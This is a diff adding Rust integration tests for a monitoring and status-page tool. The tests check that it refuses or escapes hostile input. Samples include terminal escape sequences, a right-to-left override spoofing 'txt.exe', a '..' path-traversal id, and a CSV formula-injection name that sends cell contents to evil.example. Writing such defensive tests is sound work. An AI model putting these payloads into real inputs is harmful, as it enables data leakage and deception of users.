@@ -127,3 +127,179 @@ checks: [{ id: backup-job, service: backups, heartbeat: { every: 1m } }]
     assert!(show.contains("gnp.exe"), "{show}");
     assert_eq!(raw_controls(&show), Vec::<char>::new(), "{show:?}");
 }
+
+/// A runner's database with one open incident (`inc-1`) on a target that answers 500, and the
+/// report of its month; `name` is the portal's customer-facing name.
+fn with_an_incident(name: &str) -> (Workspace, tokio::runtime::Runtime) {
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let addr = rt.block_on(atalaya_tests::http::server(None));
+    atalaya_tests::http::set_switch("hostile-input", true);
+    let w = workspace(&format!(
+        "settings:
+  allow_networks: [127.0.0.0/8]
+  defaults: {{ interval: 1s, timeout: 500ms, retries: 1, recover_after: 1 }}
+customers:
+  - {{ id: initech, name: Initech, language: en, status_page: {{ slug: initech-4k2m9x }} }}
+services:
+  - {{ id: portal, customer: initech, name: '{name}' }}
+checks:
+  - {{ id: portal-home, service: portal, http: {{ url: 'http://{addr}/switch/hostile-input' }} }}
+"
+    ));
+    let run = atalaya(&[
+        "run",
+        w.file.to_str().unwrap(),
+        "--once",
+        "--db",
+        w.db.to_str().unwrap(),
+        "--outbox",
+        w.out.to_str().unwrap(),
+    ]);
+    assert!(
+        run.status.success(),
+        "{}",
+        String::from_utf8_lossy(&run.stderr)
+    );
+    (w, rt)
+}
+
+#[test]
+fn an_update_with_a_terminal_escape_or_a_bidi_override_is_never_sent_forced_or_not() {
+    let (w, _rt) = with_an_incident("Customer portal");
+    let db = w.db.to_str().unwrap();
+    let before = outbox(&w.out).len();
+    for message in [
+        "We are on it.\u{1b}[2J\u{1b}]0;pwned\u{7}",
+        "Fixed in \u{202e}txt.exe",
+    ] {
+        for force in [false, true] {
+            let mut args = vec![
+                "incident",
+                "update",
+                "inc-1",
+                "--phase",
+                "identified",
+                "--message",
+                message,
+                "--db",
+                db,
+            ];
+            if force {
+                args.push("--force");
+            }
+            let out = atalaya(&args);
+            let err = String::from_utf8_lossy(&out.stderr).to_string();
+            assert_eq!(out.status.code(), Some(1), "{err}");
+            assert!(err.contains("refused: nothing was sent."), "{err}");
+            assert!(err.contains("it is never sent, even with --force"), "{err}");
+        }
+    }
+    assert_eq!(outbox(&w.out).len(), before);
+    // Plain words still go.
+    let out = atalaya(&[
+        "incident",
+        "update",
+        "inc-1",
+        "--phase",
+        "identified",
+        "--message",
+        "We found the cause.\n\nMore soon.",
+        "--db",
+        db,
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    atalaya_tests::http::set_switch("hostile-input", false);
+}
+
+#[test]
+fn a_report_cell_never_starts_a_formula() {
+    let (w, _rt) = with_an_incident("=HYPERLINK(\"https://evil.example/?\"&A1,\"Portal\")");
+    let month = chrono::Utc::now().format("%Y-%m").to_string();
+    let out = atalaya(&[
+        "report",
+        "--month",
+        &month,
+        "--format",
+        "csv",
+        "--db",
+        w.db.to_str().unwrap(),
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let csv = String::from_utf8(out.stdout).unwrap();
+    let row = csv.lines().nth(1).unwrap();
+    let cells: Vec<String> = csv::Reader::from_reader(csv.as_bytes())
+        .records()
+        .next()
+        .unwrap()
+        .unwrap()
+        .iter()
+        .map(str::to_string)
+        .collect();
+    assert_eq!(
+        cells[3], "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Portal\")",
+        "{row}"
+    );
+    for cell in &cells {
+        assert!(!cell.starts_with(['=', '+', '-', '@']), "{row}");
+    }
+    atalaya_tests::http::set_switch("hostile-input", false);
+}
+
+#[test]
+fn names_and_ids_that_would_break_a_page_a_badge_or_a_path_are_refused_with_where() {
+    let w = workspace(
+        "customers:
+  - { id: '..', name: Dots }
+  - { id: .hidden, name: Hidden }
+  - { id: acme, name: \"ACME\\e[2J\" }
+services:
+  - { id: shop, customer: acme, name: \"Tienda \\u202Eenilno\" }
+  - { id: web, customer: acme, name: Web }
+checks:
+  - { id: shop-home, service: shop, http: { url: 'https://shop.acme.example/' } }
+",
+    );
+    let out = atalaya(&["validate", w.file.to_str().unwrap()]);
+    let err = String::from_utf8_lossy(&out.stderr).to_string();
+    assert_eq!(out.status.code(), Some(1), "{err}");
+    for expected in [
+        "checks.yaml:2:11: customer ..: id: ids are 1 to 64 letters, digits, '-', '_' or '.', starting with a letter or digit",
+        "checks.yaml:3:11: customer .hidden: id: ids are 1 to 64 letters",
+        "checks.yaml:4:23: customer acme: name: has U+001B (an escape, which starts terminal control sequences): it is shown to people as written; remove it",
+        "checks.yaml:6:39: service shop: name: has U+202E (a bidirectional control, which reorders the text around it)",
+    ] {
+        assert!(err.contains(expected), "{expected}\nnot in:\n{err}");
+    }
+}
+
+#[test]
+fn a_customer_page_anyone_can_guess_is_said_by_validate() {
+    let w = workspace(
+        "customers:
+  - { id: acme, name: ACME }
+  - { id: globex, name: Globex, status_page: { slug: globex-8h3k2q } }
+services:
+  - { id: shop, customer: acme, name: Shop }
+checks:
+  - { id: shop-home, service: shop, http: { url: 'https://shop.acme.example/' } }
+",
+    );
+    let out = atalaya(&["validate", w.file.to_str().unwrap()]);
+    let err = String::from_utf8_lossy(&out.stderr).to_string();
+    assert!(out.status.success(), "{err}");
+    assert!(
+        err.contains("checks.yaml:2:11: customer acme: status_page.slug: not set: the customer's status page is at /acme/, which anyone who knows the id can guess"),
+        "{err}"
+    );
+    assert!(!err.contains("customer globex"), "{err}");
+    let strict = atalaya(&["validate", "--strict", w.file.to_str().unwrap()]);
+    assert_eq!(strict.status.code(), Some(1));
+}
